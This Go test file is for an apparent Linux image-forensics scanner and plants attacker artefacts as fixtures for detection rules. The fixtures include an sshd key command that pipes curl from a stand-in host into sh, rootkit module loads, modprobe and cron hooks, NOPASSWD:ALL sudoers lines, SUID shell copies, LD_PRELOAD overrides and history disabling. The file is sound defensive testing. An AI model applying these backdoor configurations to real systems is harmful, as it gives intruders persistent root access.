package linux

import (
	"crypto/sha256"
	"encoding/hex"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/snapscan/snapscan/fsread"
	"github.com/snapscan/snapscan/report"
	"github.com/snapscan/snapscan/scanner/check"
	"github.com/snapscan/snapscan/scanner/sweep/hook"
)

// elfRel is the start of an ELF relocatable object, what a .ko file is.
func elfRel(body string) string {
	return "\x7fELF\x02\x01\x01\x00" + strings.Repeat("\x00", 8) + "\x01\x00\x3e\x00" + strings.Repeat("\x00", 44) + body
}

const sshKey = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJaXU5rKZ2J0ZQqH3x1JmHc3Yy2hY7c8m4QkSx9xV2sR"

// privCase is one tree for one check: planted findings (want) and, for the
// benign twin, quiet: nothing of medium or worse at all.
type privCase struct {
	checkCase
	quiet bool
}

func runPriv(t *testing.T, cases []privCase) {
	t.Helper()
	var plain []checkCase
	for _, c := range cases {
		plain = append(plain, c.checkCase)
	}
	runCases(t, plain)
	for _, c := range cases {
		if !c.quiet {
			continue
		}
		t.Run(c.name+"/quiet", func(t *testing.T) {
			s := runCheck(t, checkByName(t, c.check), overlayWith(t, tree(t, c.files), c.attrs))
			for _, f := range s.findings {
				if f.Severity >= report.Medium {
					t.Errorf("benign twin: %s %s %s: %s", f.Evidence.Path, f.Rule, f.Severity, f.Evidence.Match)
				}
			}
		})
	}
}

func TestKernelModulesCheck(t *testing.T) {
	const v = "lib/modules/6.1.0-13-amd64/"
	stock := map[string]string{
		v + "modules.dep":     "kernel/drivers/net/ethernet/intel/e1000/e1000.ko.xz:\nkernel/arch/x86/kernel/msr.ko.xz:\n",
		v + "modules.builtin": "kernel/fs/ext4/ext4.ko\n",
		v + "kernel/drivers/net/ethernet/intel/e1000/e1000.ko.xz":          "\xfd7zXZ\x00rest",
		v + "updates/dkms/vboxdrv.ko":                                      elfRel("vboxdrv"),
		"etc/modules":                                                      "# /etc/modules\ne1000\next4\n",
		"etc/modules-load.d/msr.conf":                                      "; for the CPU tools\nmsr\n",
		"etc/modprobe.d/blacklist.conf":                                    "blacklist pcspkr\ninstall usb-storage /bin/true\ninstall e1000 /sbin/modprobe --ignore-install e1000 $CMDLINE_OPTS\n",
		"opt/docs/tutor.ko":                                                "Korean vim tutor, not a module\n",
		"var/lib/dkms/vboxdrv/7.0/6.1.0-13-amd64/x86_64/module/vboxdrv.ko": elfRel("vboxdrv"),
		"etc/passwd": passwd,
	}
	planted := map[string]string{
		"etc/modules-load.d/net.conf":  "diamorphine\n",
		"tmp/.x/diamorphine.ko":        elfRel("diamorphine_secret"),
		"opt/rk/rk.ko":                 elfRel("rk"),
		v + "misc/kthread.ko":          elfRel("kthread"),
		"etc/modprobe.d/e1000.conf":    "install e1000 /sbin/modprobe --ignore-install e1000; /tmp/.x/run\n",
		"etc/modprobe.d/snd.conf":      "install snd /usr/local/sbin/snd-setup\n",
		"etc/modules-load.d/path.conf": "/tmp/.x/diamorphine.ko\n",
	}
	for k, v := range stock {
		planted[k] = v
	}
	runPriv(t, []privCase{
		{checkCase: checkCase{name: "planted", check: "kmod", files: planted, invKind: "kernel-module-load", want: []want{
			{path: "/etc/modules-load.d/net.conf", rule: "kmod.load-missing", line: 1, sev: report.High, technique: "T1547.006"},
			{path: "/etc/modules-load.d/path.conf", rule: "kmod.load-missing", line: 1, sev: report.High},
			{path: "/tmp/.x/diamorphine.ko", rule: "kmod.module-writable", sev: report.Critical},
			{path: "/opt/rk/rk.ko", rule: "kmod.stray-module", sev: report.High},
			{path: "/" + v + "misc/kthread.ko", rule: "kmod.odd-subdir", sev: report.Medium},
			{path: "/etc/modprobe.d/e1000.conf", rule: "kmod.exec-tmp", line: 1, sev: report.High, technique: "T1547.006"},
			{path: "/etc/modprobe.d/snd.conf", rule: "kmod.install-runs", line: 1, sev: report.Low},
		}, notAt: []string{"/etc/modules", "/etc/modules-load.d/msr.conf", "/etc/modprobe.d/blacklist.conf", "/opt/docs/tutor.ko",
			"/" + v + "updates/dkms/vboxdrv.ko", "/var/lib/dkms/vboxdrv/7.0/6.1.0-13-amd64/x86_64/module/vboxdrv.ko"}}},
		{checkCase: checkCase{name: "distro modules", check: "kmod", files: stock, notAt: []string{"/etc/modules"}}, quiet: true},
		{checkCase: checkCase{name: "no modules.dep: the modules on disk are the index", check: "kmod", files: map[string]string{
			v + "kernel/arch/x86/kernel/msr.ko.xz": "\xfd7zXZ\x00rest",
			"etc/modules-load.d/msr.conf":          "msr\n",
			"etc/modules-load.d/rk.conf":           "rk\n",
		}, want: []want{{path: "/etc/modules-load.d/rk.conf", rule: "kmod.load-missing", line: 1, sev: report.High}},
			notAt: []string{"/etc/modules-load.d/msr.conf"}}},
		{checkCase: checkCase{name: "no kernel on the image", check: "kmod", files: map[string]string{"etc/modules-load.d/msr.conf": "msr\n"}, want: []want{
			{path: "/etc/modules-load.d/msr.conf", rule: "kmod.load-unverified", sev: report.Low}}}, quiet: true},
		{checkCase: checkCase{name: "insmod at boot", check: "cron", files: map[string]string{
			"etc/cron.d/rk":  "@reboot root /sbin/insmod /usr/lib/.x/rk.ko\n",
			"etc/cron.d/mod": "@reboot root modprobe msr\n",
		}, want: []want{{path: "/etc/cron.d/rk", rule: "cron.load-module", line: 1, sev: report.High}}, notAt: []string{"/etc/cron.d/mod"}}},
	})
}

func TestParseSudoers(t *testing.T) {
	for _, tc := range []struct {
		line          string
		users         []string
		all, nopasswd bool
	}{
		{"root ALL=(ALL:ALL) ALL", []string{"root"}, true, false},
		{"%sudo   ALL=(ALL:ALL) ALL", []string{"%sudo"}, true, false},
		{"ubuntu ALL=(ALL) NOPASSWD:ALL", []string{"ubuntu"}, true, true},
		{"alice, bob ALL = (root) NOPASSWD: /usr/bin/systemctl restart nginx", []string{"alice", "bob"}, false, false},
		{"deploy ALL=(ALL) NOPASSWD: /usr/bin/apt-get update, PASSWD: ALL", []string{"deploy"}, true, false},
		{"ops ALL=(ALL) NOEXEC: SETENV: NOPASSWD: /bin/bash", []string{"ops"}, true, true},
		{"svc ALL=(ALL) ALL, !/usr/bin/su  # not su", []string{"svc"}, true, false},
		{"#1001 ALL=(ALL) ALL", []string{"#1001"}, true, false},
		{"Defaults env_reset", nil, false, false},
		{"# eve ALL=(ALL) ALL", nil, false, false},
	} {
		rules, _ := ParseSudoers([]byte(tc.line+"\n"), map[string][]string{})
		if tc.users == nil {
			if len(rules) != 0 {
				t.Errorf("%q: rules %+v, want none", tc.line, rules)
			}
			continue
		}
		if len(rules) != 1 || strings.Join(rules[0].Users, ",") != strings.Join(tc.users, ",") || rules[0].All != tc.all || rules[0].NoPasswd != tc.nopasswd {
			t.Errorf("%q: %+v, want users %v all %v nopasswd %v", tc.line, rules, tc.users, tc.all, tc.nopasswd)
		}
	}
	// Aliases and includes.
	rules, incs := ParseSudoers([]byte("User_Alias ADMINS = eve, mallory\nCmnd_Alias SHELLS = /bin/sh, /bin/bash\nADMINS ALL = (ALL) NOPASSWD: SHELLS\n@includedir /etc/sudoers.d\n#include /etc/sudoers.local\n"), map[string][]string{})
	if len(rules) != 1 || strings.Join(rules[0].Users, ",") != "eve,mallory" || !rules[0].All || !rules[0].NoPasswd {
		t.Errorf("aliases: %+v", rules)
	}
	if len(incs) != 2 || incs[0] != [2]string{"includedir", "/etc/sudoers.d"} || incs[1] != [2]string{"include", "/etc/sudoers.local"} {
		t.Errorf("includes: %v", incs)
	}
}

func TestSudoCheck(t *testing.T) {
	pw := "root:x:0:0:root:/root:/bin/bash\n" +
		"syslog:x:104:110::/home/syslog:/usr/sbin/nologin\n" +
		"www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n" +
		"alice:x:1000:1000::/home/alice:/bin/bash\n" +
		"eve:x:1001:1001::/home/eve:/bin/bash\n" +
		"ghost:x:1002:1002::/home/ghost:/bin/bash\n"
	base := map[string]string{
		"etc/passwd": pw, "etc/hostname": "web01\n", "home/alice/": "", "home/eve/": "", "var/www/": "", "home/syslog/": "",
		"etc/sudoers":            "Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n",
		"etc/sudoers.d/README":   "# files here are read by sudo\n",
		"etc/sudoers.d/40-nginx": "alice ALL=(root) NOPASSWD: /usr/bin/systemctl restart nginx\n",
		"etc/group":              "root:x:0:\nadm:x:4:syslog,alice\nsudo:x:27:alice\n",
	}
	planted := map[string]string{
		"etc/sudoers.d/10-web":   "www-data ALL=(ALL) NOPASSWD: ALL\n",
		"etc/sudoers.d/20-eve":   "eve ALL=(ALL) NOPASSWD:ALL\n",
		"etc/sudoers.d/30-all":   "ALL ALL=(ALL) NOPASSWD: ALL\n",
		"etc/sudoers.d/50-ghost": "Cmnd_Alias SHELLS = /bin/bash, /bin/sh\nghost ALL = (ALL) SHELLS\n",
		"etc/sudoers.d/60.bak":   "www-data ALL=(ALL) ALL\n",
		"etc/group":              "root:x:0:\nadm:x:4:syslog,alice\nsudo:x:27:alice,www-data\ndocker:x:999:eve\n",
		"etc/gshadow":            "sudo:*:ghost:alice\n",
	}
	for k, v := range base {
		if _, ok := planted[k]; !ok {
			planted[k] = v
		}
	}
	recent := "crtime /home/eve 1763435647\n"
	runPriv(t, []privCase{
		{checkCase: checkCase{name: "planted", check: "sudo", files: planted, attrs: recent, invKind: "sudo-rule", want: []want{
			{path: "/etc/sudoers.d/10-web", rule: "sudo.service-account", line: 1, sev: report.High, technique: "T1548.003"},
			{path: "/etc/sudoers", rule: "sudo.service-account", line: 3, sev: report.High}, // %sudo now holds www-data
			{path: "/etc/sudoers.d/20-eve", rule: "sudo.new-account-nopasswd", line: 1, sev: report.High},
			{path: "/etc/sudoers.d/30-all", rule: "sudo.all-users", line: 1, sev: report.High},
			{path: "/etc/sudoers.d/50-ghost", rule: "sudo.new-account", line: 2, sev: report.Medium},
			{path: "/etc/group", rule: "group.privileged-service", line: 3, sev: report.High, technique: "T1098"},
			{path: "/etc/group", rule: "group.privileged-recent", line: 4, sev: report.Low},
			{path: "/etc/gshadow", rule: "group.privileged-new", line: 1, sev: report.Medium},
		}, notAt: []string{"/etc/sudoers.d/40-nginx", "/etc/sudoers.d/60.bak", "/etc/sudoers.d/README"}}},
		{checkCase: checkCase{name: "admin group rule, scoped NOPASSWD, cloud default user", check: "sudo", files: func() map[string]string {
			m := map[string]string{"etc/sudoers.d/90-cloud-init-users": "# Created by cloud-init\nalice ALL=(ALL) NOPASSWD:ALL\n"}
			for k, v := range base {
				m[k] = v
			}
			return m
		}(), want: []want{{path: "/etc/sudoers.d/90-cloud-init-users", rule: "sudo.nopasswd-all", line: 2, sev: report.Low}},
			notAt: []string{"/etc/sudoers", "/etc/group", "/etc/sudoers.d/40-nginx"}}, quiet: true},
	})
}

func TestSetIDCheck(t *testing.T) {
	bash := elfRel("GNU bash, version 5.2.15")
	runPriv(t, []privCase{
		{checkCase: checkCase{name: "planted", check: "suid", files: map[string]string{
			"etc/passwd": passwd, "usr/bin/bash": bash, "tmp/.s/bash": bash, "home/alice/tool": elfRel("tool"), "var/tmp/ok": elfRel("ok"),
		}, attrs: "/tmp/.s/bash 0 0 04755\n/home/alice/tool 1000 1000 02755\n", invKind: "setid-file", want: []want{
			{path: "/tmp/.s/bash", rule: "suid.shell-copy", sev: report.Critical, technique: "T1548.001"},
			{path: "/home/alice/tool", rule: "suid.writable-dir", sev: report.High},
		}, notAt: []string{"/var/tmp/ok", "/usr/bin/bash"}}},
		{checkCase: checkCase{name: "no set-id file in writable places", check: "suid", files: map[string]string{
			"etc/passwd": passwd, "usr/bin/su": elfRel("su"), "tmp/x": elfRel("x"),
		}, attrs: "/usr/bin/su 0 0 04755\n"}, quiet: true},
	})
}

// feedHook plays the content sweep: every regular file of fsys, hashed,
// handed to h, as the volume mounted at mp.
func feedHook(t *testing.T, fsys fsread.FS, h hook.Hook, mp string) ([]report.Finding, []report.InventoryItem) {
	t.Helper()
	fs, inv, errs := feedHookErrs(t, fsys, h, mp)
	for _, e := range errs {
		t.Errorf("hook error: %+v", e)
	}
	return fs, inv
}

func feedHookErrs(t *testing.T, fsys fsread.FS, h hook.Hook, mp string) ([]report.Finding, []report.InventoryItem, []report.ScanError) {
	t.Helper()
	err := fsread.Walk(fsys, ".", func(p string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return err
		}
		info, _ := d.Info()
		data, err := fs.ReadFile(fsys, p)
		if err != nil {
			return err
		}
		sum := sha256.Sum256(data)
		os := strings.TrimSuffix(mp, "/") + "/" + p
		h.File(hook.File{Path: p, OSPath: os, Meta: fsread.MetaOf(info), SHA256: hex.EncodeToString(sum[:]), Head: data[:min(len(data), hook.HeadSize)]})
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return h.Done()
}

func TestFileHook(t *testing.T) {
	bash := elfRel("GNU bash, version 5.2.15")
	files := map[string]string{
		"etc/passwd": passwd, "usr/bin/bash": bash, "usr/bin/su": elfRel("su"), "usr/bin/passwd": elfRel("passwd"),
		"usr/local/bin/rootsh": bash, "usr/lib/.cache/helper": elfRel("h"), "usr/sbin/backdoor": elfRel("b"),
		"tmp/planted":                  elfRel("t"), // the suid check's, not the hook's
		"usr/share/.k/rk.ko":           elfRel("rk"),
		"usr/share/vim/tutor.ko":       "vim tutor\n",
		"lib/modules/6.1/kernel/x.ko":  elfRel("x"),
		"var/lib/dpkg/info/login.list": "/.\n/bin\n/bin/su\n/usr/bin/passwd\n",
	}
	attrs := "/usr/bin/su 0 0 04755\n/usr/bin/passwd 0 0 04755\n/usr/local/bin/rootsh 0 0 04755\n/usr/lib/.cache/helper 0 0 04755\n/usr/sbin/backdoor 0 0 04750\n/tmp/planted 0 0 04755\n"
	for _, tc := range []struct {
		name  string
		dpkg  bool
		want  map[string]string // path -> rule
		quiet []string
	}{
		{"with dpkg lists", true, map[string]string{"/usr/local/bin/rootsh": "suid.shell-copy", "/usr/lib/.cache/helper": "suid.hidden-dir",
			"/usr/sbin/backdoor": "suid.unowned", "/usr/share/.k/rk.ko": "kmod.module-writable"}, []string{"/usr/bin/su", "/usr/bin/passwd", "/tmp/planted", "/usr/share/vim/tutor.ko", "/lib/modules/6.1/kernel/x.ko"}},
		{"without a package database", false, map[string]string{"/usr/local/bin/rootsh": "suid.shell-copy", "/usr/sbin/backdoor": "suid.unknown"}, []string{"/usr/bin/su", "/usr/bin/passwd"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			fm := map[string]string{}
			for k, v := range files {
				if tc.dpkg || !strings.HasPrefix(k, "var/lib/dpkg") {
					fm[k] = v
				}
			}
			fsys := overlayWith(t, tree(t, fm), attrs)
			fs, inv := feedHook(t, fsys, NewFileHook(fsys, "test@1", "/"), "/")
			got := map[string]string{}
			for _, f := range fs {
				got[f.Evidence.Path] = f.Rule
				if f.Technique == "" || f.TechniqueName == "" || f.Remediation == "" || f.ID == "" {
					t.Errorf("incomplete finding %+v", f)
				}
			}
			for p, r := range tc.want {
				if got[p] != r {
					t.Errorf("%s: rule %q, want %q (all %v)", p, got[p], r, got)
				}
			}
			for _, p := range tc.quiet {
				if got[p] != "" {
					t.Errorf("%s: unexpected %s", p, got[p])
				}
			}
			n := 0
			for _, i := range inv {
				if i.Kind == "setid-file" {
					n++
				}
			}
			if n != 5 { // every set-id file outside /tmp
				t.Errorf("%d set-id files inventoried, want 5", n)
			}
		})
	}
	// A /usr volume: paths are seen with the mount point in front.
	fsys := overlayWith(t, tree(t, map[string]string{"bin/bash": bash, "local/bin/rootsh": bash}), "/local/bin/rootsh 0 0 04755\n")
	fs, _ := feedHook(t, fsys, NewFileHook(fsys, "test@2", "/usr"), "/usr")
	if len(fs) != 1 || fs[0].Rule != "suid.shell-copy" || fs[0].Evidence.Path != "/local/bin/rootsh" || !strings.Contains(fs[0].Description, "/usr/local/bin/rootsh") {
		t.Errorf("/usr volume: %+v", fs)
	}
}

func TestLoginsCheck(t *testing.T) {
	pw := "root:x:0:0:root:/root:/bin/bash\n" +
		"daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n" +
		"systemd-svc:x:998:998::/var/lib/svc:/usr/sbin/nologin \n" +
		"games:x:5:60:games:/usr/games:/tmp/.sh\n" +
		"backup:x:34:34:backup:/var/backups:/bin/sh\n" +
		"www-data:x:33:33:www-data:/var/www:/bin/bash\n" +
		"carol:x:1003:1003::/home/carol:/usr/bin/fish\n" +
		"postgres:x:102:110::/var/lib/postgresql:/bin/bash\n"
	runPriv(t, []privCase{
		{checkCase: checkCase{name: "planted", check: "logins", files: map[string]string{
			"etc/passwd":                   pw,
			"etc/shadow":                   "root:$6$x$y:19000:0:99999:7:::\nbackup:$6$salt$hash:19000:0:99999:7:::\npostgres:*:19000::::::\n",
			"etc/shells":                   "/bin/sh\n/bin/bash\n/usr/bin/bash\n/tmp/.sh\n",
			"usr/sbin/nologin ":            elfRel("bash"),
			"var/www/.ssh/authorized_keys": sshKey + " www@attacker\n",
		}, invKind: "login-shell", want: []want{
			{path: "/etc/passwd", rule: "login.shell-bytes", line: 3, sev: report.High, technique: "T1098"},
			{path: "/etc/passwd", rule: "login.shell-odd-place", line: 4, sev: report.High},
			{path: "/etc/shells", rule: "login.shells-entry-odd", line: 4, sev: report.Medium},
			{path: "/etc/passwd", rule: "login.system-usable", line: 5, sev: report.High, technique: "T1078.003"},
			{path: "/etc/passwd", rule: "login.system-usable", line: 6, sev: report.High},
			{path: "/etc/passwd", rule: "login.shell-unlisted", line: 7, sev: report.Low},
		}}},
		{checkCase: checkCase{name: "stock accounts", check: "logins", files: map[string]string{
			"etc/passwd": "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nsync:x:4:65534:sync:/bin:/bin/sync\n" +
				"postgres:x:102:110::/var/lib/postgresql:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n",
			"etc/shadow": "root:$6$x$y:19000:0:99999:7:::\npostgres:*:19000::::::\nalice:$6$a$b:19000::::::\n",
			"etc/shells": "# /etc/shells: valid login shells\n/bin/sh\n/usr/bin/sh\n/bin/bash\n/usr/bin/bash\n/bin/rbash\n/usr/bin/rbash\n/bin/dash\n/usr/bin/dash\n",
		}, notAt: []string{"/etc/passwd", "/etc/shells"}}, quiet: true},
	})
}

func TestSSHDCheck(t *testing.T) {
	debian := "Include /etc/ssh/sshd_config.d/*.conf\nKbdInteractiveAuthentication no\nUsePAM yes\nX11Forwarding yes\nSubsystem sftp /usr/lib/openssh/sftp-server\n"
	runPriv(t, []privCase{
		{checkCase: checkCase{name: "planted in an included file", check: "sshd", files: map[string]string{
			"etc/ssh/sshd_config": debian, "etc/shadow": "root:$6$salt$hash:19000:0:99999:7:::\n",
			"etc/ssh/sshd_config.d/50-cloud.conf": "PermitRootLogin yes\nPasswordAuthentication yes\nPort 2222\n" +
				"AuthorizedKeysFile .ssh/authorized_keys /var/tmp/.k/%u\nAuthorizedKeysFile /etc/ssh/keys/%u\n" +
				"AuthorizedKeysCommand /usr/local/bin/keys %u\nAuthorizedKeysCommandUser nobody\nPermitEmptyPasswords yes\n",
		}, invKind: "sshd-option", want: []want{
			{path: "/etc/ssh/sshd_config.d/50-cloud.conf", rule: "sshd.root-password", line: 1, sev: report.Medium, technique: "T1021.004"},
			{path: "/etc/ssh/sshd_config.d/50-cloud.conf", rule: "sshd.port", line: 3, sev: report.Low},
			{path: "/etc/ssh/sshd_config.d/50-cloud.conf", rule: "sshd.keys-file-writable", line: 4, sev: report.High, technique: "T1098.004"},
			{path: "/etc/ssh/sshd_config.d/50-cloud.conf", rule: "sshd.keys-file", line: 5, sev: report.Medium},
			{path: "/etc/ssh/sshd_config.d/50-cloud.conf", rule: "sshd.keys-command", line: 6, sev: report.Medium},
			{path: "/etc/ssh/sshd_config.d/50-cloud.conf", rule: "sshd.empty-passwords", line: 8, sev: report.Medium},
		}}},
		{checkCase: checkCase{name: "RHEL 8 stock: root login allowed, root password locked", check: "sshd", files: map[string]string{
			"etc/ssh/sshd_config": "PermitRootLogin yes\nAuthorizedKeysFile .ssh/authorized_keys\nPasswordAuthentication yes\n",
			"etc/shadow":          "root:!!:19000:0:99999:7:::\n",
		}, want: []want{{path: "/etc/ssh/sshd_config", rule: "sshd.root-login", line: 1, sev: report.Low}}}, quiet: true},
		{checkCase: checkCase{name: "key command downloads", check: "sshd", files: map[string]string{
			"etc/ssh/sshd_config": "AuthorizedKeysCommand /bin/sh -c \"curl -s http://203.0.113.9/k | sh\"\n",
		}, want: []want{{path: "/etc/ssh/sshd_config", rule: "sshd.download-exec", line: 1, sev: report.High}}}},
		{checkCase: checkCase{name: "stock Debian", check: "sshd", files: map[string]string{"etc/ssh/sshd_config": debian, "etc/ssh/sshd_config.d/": ""},
			notAt: []string{"/etc/ssh/sshd_config"}}, quiet: true},
		{checkCase: checkCase{name: "root by key only, SSSD keys", check: "sshd", files: map[string]string{
			"etc/ssh/sshd_config": "PermitRootLogin yes\nPasswordAuthentication no\nAuthorizedKeysCommand /usr/bin/sss_ssh_authorizedkeys\nMatch User backup\n  PermitRootLogin no\n",
		}, want: []want{
			{path: "/etc/ssh/sshd_config", rule: "sshd.root-login", line: 1, sev: report.Low},
			{path: "/etc/ssh/sshd_config", rule: "sshd.keys-command-known", line: 3, sev: report.Info},
		}}, quiet: true},
	})
}

// The sshkeys check reads the key files sshd_config's Includes name.
func TestSSHKeysFollowsSSHDIncludes(t *testing.T) {
	s := runCheck(t, checkByName(t, "sshkeys"), overlayWith(t, tree(t, map[string]string{
		"etc/passwd":                      passwd,
		"etc/ssh/sshd_config":             "Include /etc/ssh/sshd_config.d/*.conf\n",
		"etc/ssh/sshd_config.d/keys.conf": "AuthorizedKeysFile .ssh/authorized_keys /var/tmp/.k/%u\n",
		"var/tmp/.k/root":                 sshKey + " hidden@attacker\n",
		"home/alice/.ssh/authorized_keys": sshKey + " alice@laptop\n",
	}), ""))
	found := false
	for _, i := range s.inv {
		found = found || i.Kind == "ssh-key" && i.Path == "/var/tmp/.k/root"
	}
	if !found {
		t.Errorf("key in the included AuthorizedKeysFile not inventoried: %+v", s.inv)
	}
}

func TestEvasionChecks(t *testing.T) {
	runPriv(t, []privCase{
		{checkCase: checkCase{name: "selinux disabled", check: "selinux", files: map[string]string{"etc/selinux/config": "# managed\nSELINUX=disabled\nSELINUXTYPE=targeted\n"},
			invKind: "selinux", want: []want{{path: "/etc/selinux/config", rule: "selinux.disabled", line: 2, sev: report.Medium, technique: "T1562.001"}}}},
		{checkCase: checkCase{name: "selinux enforcing", check: "selinux", files: map[string]string{"etc/selinux/config": "SELINUX=enforcing\nSELINUXTYPE=targeted\n"},
			notAt: []string{"/etc/selinux/config"}}, quiet: true},
		{checkCase: checkCase{name: "selinux permissive", check: "selinux", files: map[string]string{"etc/selinux/config": "SELINUX=permissive\n"},
			want: []want{{path: "/etc/selinux/config", rule: "selinux.permissive", line: 1, sev: report.Low}}}, quiet: true},
		{checkCase: checkCase{name: "miner sysctl tuning", check: "sysctl", files: map[string]string{
			"etc/sysctl.d/99-perf.conf": "kernel.nmi_watchdog = 0\n",
			"etc/sysctl.conf":           "vm.nr_hugepages=1280\n",
		}, invKind: "sysctl", want: []want{
			{path: "/etc/sysctl.d/99-perf.conf", rule: "sysctl.miner-tuning-combined", line: 1, sev: report.Medium, technique: "T1496.001"},
			{path: "/etc/sysctl.conf", rule: "sysctl.miner-tuning-combined", line: 1, sev: report.Medium},
		}}},
		{checkCase: checkCase{name: "database huge pages alone", check: "sysctl", files: map[string]string{
			"etc/sysctl.d/50-postgres.conf":    "vm.nr_hugepages = 512\n",
			"usr/lib/sysctl.d/50-default.conf": "kernel.sysrq = 0x01b6\n-net.ipv4.conf.all.rp_filter = 2\nkernel.nmi_watchdog=1\n",
		}, want: []want{{path: "/etc/sysctl.d/50-postgres.conf", rule: "sysctl.miner-tuning", line: 1, sev: report.Low}},
			notAt: []string{"/usr/lib/sysctl.d/50-default.conf"}}, quiet: true},
		{checkCase: checkCase{name: "cloud agents removed and masked", check: "cloudagent", files: map[string]string{
			"usr/local/aegis/aegis_update/":             "",
			"usr/local/qcloud/YunJing/YDEyes/YDService": elfRel("yd"),
			"etc/systemd/system/YDService.service":      "->/dev/null",
		}, invKind: "cloud-agent", want: []want{
			{path: "/usr/local/aegis", rule: "cloudagent.removed", sev: report.High, technique: "T1562.001"},
			{path: "/etc/systemd/system/YDService.service", rule: "cloudagent.masked", sev: report.High},
		}}},
		{checkCase: checkCase{name: "cloud agent installed", check: "cloudagent", files: map[string]string{
			"usr/local/hostguard/bin/hostguard": elfRel("hg"), "usr/local/hostguard/conf/hostguard.conf": "x\n",
			"etc/systemd/system/multi-user.target.wants/hostguard.service": "->/usr/lib/systemd/system/hostguard.service",
		}, invKind: "cloud-agent"}, quiet: true},
		{checkCase: checkCase{name: "ld.so.conf into /dev/shm", check: "ldso", files: map[string]string{
			"etc/passwd":                             passwd,
			"etc/ld.so.conf":                         "include /etc/ld.so.conf.d/*.conf\n",
			"etc/ld.so.conf.d/x86_64-linux-gnu.conf": "# Multiarch support\n/usr/local/lib/x86_64-linux-gnu\n/lib/x86_64-linux-gnu\n/usr/lib/x86_64-linux-gnu\n",
			"etc/ld.so.conf.d/zz.conf":               "/dev/shm/.lib\n/srv/app/lib\n",
		}, invKind: "ld-path", want: []want{
			{path: "/etc/ld.so.conf.d/zz.conf", rule: "ldso.writable-dir", line: 1, sev: report.High, technique: "T1574.006"},
			{path: "/etc/ld.so.conf.d/zz.conf", rule: "ldso.odd-dir", line: 2, sev: report.Low},
		}, notAt: []string{"/etc/ld.so.conf.d/x86_64-linux-gnu.conf"}}},
		{checkCase: checkCase{name: "stock ld.so.conf", check: "ldso", files: map[string]string{
			"etc/ld.so.conf": "include /etc/ld.so.conf.d/*.conf\n", "etc/ld.so.conf.d/libc.conf": "/usr/local/lib\n",
			"etc/ld.so.conf.d/fakeroot-x86_64-linux-gnu.conf": "/usr/lib/x86_64-linux-gnu/libfakeroot\n",
		}}, quiet: true},
		{checkCase: checkCase{name: "unit preloads", check: "unitenv", files: map[string]string{
			"etc/passwd": passwd,
			"etc/systemd/system/nginx.service.d/override.conf": "[Service]\nEnvironment=\"LD_PRELOAD=/usr/local/lib/.libx.so\" OTHER=1\n",
			"etc/systemd/system/app.service":                   "[Service]\nEnvironmentFile=-/tmp/.env\nExecStart=/usr/bin/app\n",
			"tmp/.env":                                         "LD_PRELOAD=/tmp/.e.so\n",
		}, invKind: "unit-environment", want: []want{
			{path: "/etc/systemd/system/nginx.service.d/override.conf", rule: "unitenv.preload", line: 2, sev: report.High, technique: "T1574.006"},
			{path: "/etc/systemd/system/app.service", rule: "unitenv.envfile-writable", line: 2, sev: report.High},
			{path: "/tmp/.env", rule: "unitenv.preload", line: 1, sev: report.High},
		}}},
		{checkCase: checkCase{name: "jemalloc preload", check: "unitenv", files: map[string]string{
			"lib/systemd/system/redis-server.service": "[Service]\nEnvironment=LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\nEnvironmentFile=-/etc/default/redis\nExecStart=/usr/bin/redis-server\n",
		}, want: []want{{path: "/lib/systemd/system/redis-server.service", rule: "unitenv.preload-lib", line: 2, sev: report.Low}}}, quiet: true},
		{checkCase: checkCase{name: "renamed download tools", check: "renamed", files: map[string]string{
			"usr/bin/curl": elfRel("curl 8.4.0"), "usr/bin/cd1": elfRel("curl 8.4.0"), "usr/bin/wd1": elfRel("wget 1.21"),
			"usr/bin/chattr": elfRel("chattr"),
		}, invKind: "renamed-tool", want: []want{
			{path: "/usr/bin/cd1", rule: "renamed.copy", sev: report.High, technique: "T1036.003"},
			{path: "/usr/bin/wd1", rule: "renamed.missing-original", sev: report.High},
		}, notAt: []string{"/usr/bin/curl", "/usr/bin/chattr"}}},
		{checkCase: checkCase{name: "tools in place", check: "renamed", files: map[string]string{
			"usr/bin/curl": elfRel("curl 8.4.0"), "usr/bin/wget": elfRel("wget 1.21"), "usr/bin/curl-config": "#!/bin/sh\necho curl\n",
			"usr/bin/cur": elfRel("a different program"),
		}, want: []want{{path: "/usr/bin/cur", rule: "renamed.lookalike", sev: report.Medium}}}},
		{checkCase: checkCase{name: "history to /dev/null", check: "history", files: map[string]string{
			"etc/passwd": passwd, "root/.bash_history": "->/dev/null", "home/alice/.bash_history": "ls\n",
			"etc/profile.d/zz.sh": "export HISTFILE=/dev/null\n", "etc/bash.bashrc": "HISTSIZE=1000\nHISTFILESIZE=2000\n",
		}, invKind: "shell-history", want: []want{
			{path: "/root/.bash_history", rule: "history.devnull", sev: report.Medium, technique: "T1070.003"},
			{path: "/etc/profile.d/zz.sh", rule: "history.disabled", line: 1, sev: report.Medium},
		}, notAt: []string{"/home/alice/.bash_history", "/etc/bash.bashrc"}}},
		{checkCase: checkCase{name: "touch -r on a cron file", check: "timestomp", files: map[string]string{
			"etc/cron.d/sync": "* * * * * root /usr/bin/true\n", "etc/cron.d/e2scrub_all": "10 3 * * 0 root /sbin/e2scrub_all\n",
			"etc/cron.d/fresh":                 "* * * * * root /usr/bin/true\n",
			"var/lib/dpkg/info/e2fsprogs.list": "/etc/cron.d/e2scrub_all\n",
		}, attrs: "mtime /etc/cron.d/sync 1600000000\nmtime /etc/cron.d/e2scrub_all 1600000000\n", want: []want{
			{path: "/etc/cron.d/sync", rule: "timestomp.birth-after-mtime", sev: report.Low, technique: "T1070.006"},
		}, notAt: []string{"/etc/cron.d/e2scrub_all", "/etc/cron.d/fresh"}}, quiet: true},
	})
}

// Every rule in privesc-rules.txt is emitted somewhere, every role of
// privesc-paths.txt is read, and every technique has a name.
func TestPrivescData(t *testing.T) {
	p := priv()
	var src strings.Builder
